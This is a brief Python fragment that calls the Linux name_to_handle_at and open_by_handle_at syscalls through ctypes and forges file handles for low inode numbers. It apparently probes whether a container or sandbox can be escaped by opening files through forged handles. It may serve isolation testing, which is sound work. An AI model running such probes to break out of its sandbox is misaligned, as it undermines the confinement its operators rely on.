handle = ctypes.create_string_buffer(struct.pack("Ii", 128, 0) + bytes(128))
mount = ctypes.c_int()
libc.syscall(303, -100, b".", handle, ctypes.byref(mount), 0)
for root in (os.open(".", os.O_RDONLY), -100):
    for inode in range(1, 4):
        forged = ctypes.create_string_buffer(struct.pack("IiII", 8, 1, inode, 0))
        for one in (handle, forged):
            if libc.syscall(304, root, one, 0) >= 0: got("handle")
